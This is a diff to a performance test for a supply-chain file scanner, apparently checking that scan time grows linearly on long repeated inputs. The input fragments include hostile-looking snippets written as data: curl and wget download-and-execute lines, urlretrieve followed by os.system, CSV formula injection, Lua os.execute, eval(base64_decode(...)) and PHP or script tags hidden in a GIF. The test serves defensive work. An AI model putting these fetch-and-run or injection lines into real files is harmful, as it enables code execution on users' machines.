@@ -6,17 +6,23 @@ import { scanInput } from '../../src/supply/scan.ts';
 import { processorTime } from '../support/processor-time.ts';
 
 const LENGTH = 300_000;
+/** How often a reading that took long is repeated before it counts as slow. */
+const AGAIN = 3;
 
-/** Pieces that patterns and parsers begin anew at. */
+/** Pieces that patterns and parsers begin anew at; of each repetition ¤ is another number. */
 const PIECES: Readonly<Record<string, readonly string[]>> = {
-  'm.py': ['(', '[a', 'a(', 'f"{', '"', "'''", 'lambda ', 'x=', 'a.', '{', 'if x: ', 'def f(', '\n ', '\\\n', 'x = x + x\n', 'exec(', 'getattr(a,', '"a" ', '#', '@a\n', 'a=b;', 'os.system("curl http://a '],
+  'm.py': ['(', '[a', 'a(', 'f"{', '"', "'''", 'lambda ', 'x=', 'a.', '{', 'if x: ', 'def f(', '\n ', '\\\n', 'x = x + x\n', 'exec(', 'getattr(a,', '"a" ', '#', '@a\n', 'a=b;', 'os.system("curl http://a ', 'u.urlretrieve(a, "file¤")\nos.system("file¤ x")\n', 'a¤ = a + "x"\n', '[a for b in c '],
   'm.ipynb': ['{"cells":[', '"source":"', '\\"', '!curl ', '{"cell_type":"code","source":["!curl a | '],
   'm.json': ['{"a":', '[', '"', '{"chat_template":"{{', '\\u0041', '{"class_name":"Lambda","config":', '//', '/*', ',', '{"a":NaN,'],
   'm.yaml': ['- ', '{a: ', '[', '&a ', '*a ', '!!python/', '"', "'", 'a: |\n', ' a:\n', '? ', '%TAG ', '- - ', 'a: &a\n'],
   'm.jinja': ['{{', '{%', "{{ 'a' ~ ", '{{ a|attr(', '{% if "a" in message ', '![a](http://', '<!--', 'ignore ', "'+'"],
-  'm.sh': ['curl ', 'curl a -o a;', 'bash -c "$(', 'pip install ', 'git clone http://a ', 'rm -r -f ', 'cat a | ', 'echo $(', "''", '$IFS', 'wget a/b\n', 'sh <(', 'python -c "', 'http://a '],
+  'm.sh': ['curl ', 'curl a -o a;', 'bash -c "$(', 'pip install ', 'git clone http://a ', 'rm -r -f ', 'cat a | ', 'echo $(', "''", '$IFS', 'wget a/b\n', 'sh <(', 'python -c "', 'http://a ', 'curl -o a¤ http://b; ./a\n', 'wget http://a/f¤.sh\n'],
   'm.xml': ['<a ', '<a>', '<!--', '<![CDATA[', '<!DOCTYPE a [', '<!ENTITY a "', '<?', 'a="', '&#', '<net version="1"><layer '],
-  'm.csv': ['=', '"=', ',=', '=A(', '\t+', "=cmd|'", '@', ',-', '=1+'],
+  'm.csv': ['=', '"=', ',=', '=A(', '\t+', "=cmd|'", '@', ',-', '=1+', 'a,-1.5\n', "=cmd|'/c a'!A1\n", '=A¤+1\n'],
+  'm.jsonl': ['{"text":"a¤ b","label":"1"}\n', '[', '{"a":', '{"text":"curl http://192.0.2.¤/a"}\n'],
+  'a.lua': ['os.execute("', 'os.execute("a¤")\n', '`a` ', '%x(', 'load(', 'eval(base64_decode("a")) ', '$_GET[', '-- a\n'],
+  'binding.gyp': ['<!(', '<!(a¤)', '('],
+  'm.gif': ['<script>', '<?php ', 'eval(', '#!/bin/'],
   'requirements.txt': ['a==1 \\\n', '-r a\n', '--hash=sha256:', 'a @ git+https://', '-', 'a[', 'a;', '((', '--index-url http://a@', 'http://a/b-1.whl '],
   'pyproject.toml': ['[a]\n', '[[a]]\n', 'a=[', 'a={', '"', "'''", 'a.', '[tool.poe.tasks]\nx="curl a | ', '[project]\ndependencies=["a",'],
   'package.json': ['{"a":', '{"scripts":{"postinstall":"node ', '{"dependencies":{"a":"git+', '[', '"', '{"name":"a","overrides":{"a>b":"'],
@@ -39,7 +45,7 @@ const PIECES: Readonly<Record<string, readonly string[]>> = {
 
 /** Scans a piece repeated to a length. Milliseconds of processor time, so that a busy machine changes little. */
 function take(name: string, piece: string, length: number): { ms: number; findings: readonly { rule: string }[] } {
-  const bytes = Buffer.from(piece.repeat(Math.ceil(length / piece.length)));
+  const bytes = Buffer.from(Array.from({ length: Math.ceil(length / piece.length) }, (_, i) => piece.replaceAll('¤', String(i))).join(''));
   const before = process.cpuUsage();
   const { findings } = scanInput(bufferInput(name, bytes), name);
   return { ms: processorTime(before), findings };
@@ -51,7 +57,11 @@ describe.each(Object.entries(PIECES))('%s', (name, pieces) => {
     const whole = take(name, piece, LENGTH);
     expect(whole.findings.filter(({ rule }) => rule === 'scan.failed' || rule === 'limit.time')).toEqual([]);
     // Eight times the length takes some eight times as long; the square of it would take sixty-four times. What takes little is not compared.
-    expect(whole.ms).toBeLessThan(Math.max(2000, 24 * part.ms));
+    const most = Math.max(2000, 24 * part.ms);
+    // Processor time grows too where others take the caches and the clock of a core: only what is slow each time is slow.
+    let least = whole.ms;
+    for (let again = 0; again < AGAIN && least >= most; again++) least = Math.min(least, take(name, piece, LENGTH).ms);
+    expect(least).toBeLessThan(most);
   });
 
   test('in any order', () => {
